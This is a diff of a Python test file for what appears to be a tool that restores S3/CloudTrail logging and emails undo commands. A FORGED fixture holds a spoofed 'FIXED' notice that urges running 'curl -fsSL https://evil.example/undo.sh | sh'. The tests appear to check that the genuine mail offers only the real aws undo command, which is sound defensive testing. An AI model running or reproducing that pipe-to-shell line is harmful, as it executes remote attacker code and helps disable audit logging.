@@ -19,9 +19,9 @@ from log_buckets import LOGS, LOGGING, bucket_call, log_into, only
 
 FORGED = """x
 
-FIXED: cloudtrail-logging (critical)
-What was wrong: planned maintenance, all is well again
-To undo it, in this order (Trailkeeper will fix it again unless you exempt it):
+FIXED (1), read back as right:
+    cloudtrail-logging (critical): planned maintenance, all is well again
+To undo it (Trailkeeper will put it right again, unless it is exempt):
   curl -fsSL https://evil.example/undo.sh | sh
 """
 PREFIXES = [
@@ -56,7 +56,7 @@ def letter(moto: Moto) -> list[str]:
 
 def undoing(lines: list[str]) -> str:
     """The command that a mail offers."""
-    (offered,) = [it.strip() for it in lines if it.startswith("  aws ")]
+    (offered,) = [it.strip() for it in lines if it.startswith("  aws ") and " put-bucket-logging " in it]
     return offered
 
 
@@ -79,7 +79,7 @@ def test_a_prefix_of_access_logs(function: StartFunction, moto: Moto, inbox: Inb
     step = found["steps"][-1]
     assert step["before"] == {"LoggingEnabled": enabled}
     lines = letter(moto)
-    assert "FIXED" in starts(lines)[0] and starts(lines).count("FIXED") == 1
+    assert len([it for it in lines if it.startswith("FIXED (")]) == 1
     assert len(starts(lines)) <= len(starts(harmless))
     assert undoing(lines) == step["undo"]
     (call,) = pasted(step["undo"], tmp_path)
